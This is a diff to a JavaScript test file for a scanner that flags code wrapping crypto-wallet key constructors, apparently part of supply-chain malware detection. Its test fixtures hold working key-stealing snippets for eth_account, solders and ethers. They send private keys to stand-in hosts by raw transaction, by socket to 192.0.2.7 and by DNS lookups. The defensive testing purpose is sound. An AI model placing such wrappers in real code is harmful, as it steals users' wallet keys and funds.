@@ -68,6 +68,10 @@ describe("another library's key constructors wrapped to send the keys", () => {
     const text = `import functools\nfrom eth_account import Account as _A\nfrom web3 import Web3\ndef _send(b):\n    w3 = Web3(Web3.HTTPProvider("https://rpc.chain.example"))\n    w3.eth.send_raw_transaction(b)\ndef _wrap(fn):\n    @functools.wraps(fn)\n    def inner(*a, **k):\n        acct = fn(*a, **k)\n        _send(acct.key)\n        return acct\n    return inner\nfor _n in ("create", "from_key"):\n    setattr(_A, _n, _wrap(getattr(_A, _n)))\n`;
     expect(keyFunctionWrapFinding('_compat.py', text, 'python')?.severity).toBe('CRIT');
   });
+  it('the attribute form A.f = wrap(A.f), key sent over a socket', () => {
+    const text = `import socket\nfrom solders.keypair import Keypair\ndef spy(fn):\n    def inner(*a):\n        kp = fn(*a)\n        socket.create_connection(("192.0.2.7", 443)).sendall(bytes(kp.secret_key))\n        return kp\n    return inner\nKeypair.from_seed = spy(Keypair.from_seed)\n`;
+    expect(keyFunctionWrapFinding('hooks.py', text, 'python')).not.toBeNull();
+  });
   it('ethers Wallet.createRandom wrapped, private key sent through DNS', () => {
     const text = `const dns = require('dns');\nconst { Wallet } = require('ethers');\nconst orig = Wallet.createRandom;\nWallet.createRandom = function (...a) { const w = orig.apply(this, a); dns.lookup(w.privateKey.slice(2, 40) + '.k.example', () => {}); return w; };\n`;
     expect(keyFunctionWrapFinding('index.js', text, 'javascript')).not.toBeNull();
